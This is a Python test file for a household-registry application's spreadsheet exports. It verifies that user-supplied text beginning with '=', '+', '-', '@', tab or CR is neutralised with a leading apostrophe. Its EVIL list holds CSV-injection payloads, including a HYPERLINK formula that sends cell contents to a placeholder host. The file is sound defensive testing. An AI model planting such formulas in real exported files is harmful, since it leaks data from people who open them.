"""No spreadsheet the product writes runs a formula a user typed (OWASP CSV injection).

A name ``=HYPERLINK("http://...")`` in a rejected row, a plan called ``=1+1``: every text cell
starting with ``=``, ``+``, ``-``, ``@``, tab or CR gets a leading apostrophe (readable, inert).
One helper does it (``geo.io.xlsx_cells`` / ``csv_cells``); the first test finds every module
that writes a CSV or an XLSX and fails when one does not use it.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from household_rows import row, write_csv
from openpyxl import load_workbook

from app.services.io import batches
from app.services.registry import import_households
from app.services.wilayah import load_boundaries
from geo.io import csv_cells, xlsx_cells

ROOT = Path(__file__).resolve().parents[2]
WRITES_CSV = re.compile(r"csv\.(writer|DictWriter)\(")
WRITES_XLSX = re.compile(r"\bWorkbook\(")
# CSV text that is not a spreadsheet anyone opens: COPY data for PostgreSQL.
NOT_SPREADSHEETS = {"app/services/registry/members.py"}
EVIL = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)",
        "\t=1", "\r=1"]


def test_every_spreadsheet_writer_uses_the_one_helper():
    writers = []
    for path in sorted([*ROOT.glob("app/**/*.py"), *ROOT.glob("geo/**/*.py")]):
        source = path.read_text(encoding="utf-8")
        if str(path.relative_to(ROOT)) in NOT_SPREADSHEETS:
            continue
        if WRITES_CSV.search(source):
            writers.append((path, "csv_cells("))
        if WRITES_XLSX.search(source):
            writers.append((path, "xlsx_cells("))
    assert len(writers) >= 6  # audit, check file, batches (2), coverage export (2), plan export
    missing = [f"{p.relative_to(ROOT)} without {helper}" for p, helper in writers
               if helper not in p.read_text(encoding="utf-8")]
    assert missing == []


@pytest.mark.parametrize("text", EVIL)
def test_a_formula_becomes_readable_text(text):
    assert csv_cells([text, 5, -5, None]) == ["'" + text, 5, -5, None]
    assert xlsx_cells([text])[0] in ("'" + text, "'" + text.replace("\r", ""))
    assert csv_cells(["Budi", "<5", "64.74"]) == ["Budi", "<5", "64.74"]


def test_rejected_rows_report_keeps_formulas_inert(conn, settings, wilayah_dir, tmp_path):
    load_boundaries(conn, wilayah_dir / "bontang_kelurahan.geojson")
    path = write_csv(tmp_path / "rt.csv", [
        row(1, nama_kepala=EVIL[0], desil="11"),  # rejected: desil
        row(2, alamat="@SUM(1+1)", desil="0")])
    result = import_households(conn, path, key=settings.hmac_key(), user="uji", name="rt.csv")
    assert result.rejected == 2
    rows = list(csv.reader(io.StringIO(
        batches.report_csv(conn, result.batch_id).decode("utf-8-sig"))))
    assert "'" + EVIL[0] in rows[1] and "'@SUM(1+1)" in rows[2]
    sheet = load_workbook(io.BytesIO(batches.report_xlsx(conn, result.batch_id)))["ditolak"]
    cells = [c for line in sheet.iter_rows(min_row=2) for c in line]
    assert not any(c.data_type == "f" for c in cells)
    assert "'" + EVIL[0] in [c.value for c in cells]


def test_a_plan_named_like_a_formula_exports_as_text(client, conn, wilayah_dir):
    load_boundaries(conn, wilayah_dir / "bontang_kelurahan.geojson")
    from rollout_rows import plan_body

    plan_id = client.post("/api/v1/rollout/plans", json=plan_body("=1+1")).json()["id"]
    response = client.get(f"/api/v1/rollout/plans/{plan_id}/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book for line in sheet.iter_rows() for c in line]
    assert not any(c.data_type == "f" for c in cells)
    assert "'=1+1" in [c.value for c in cells]
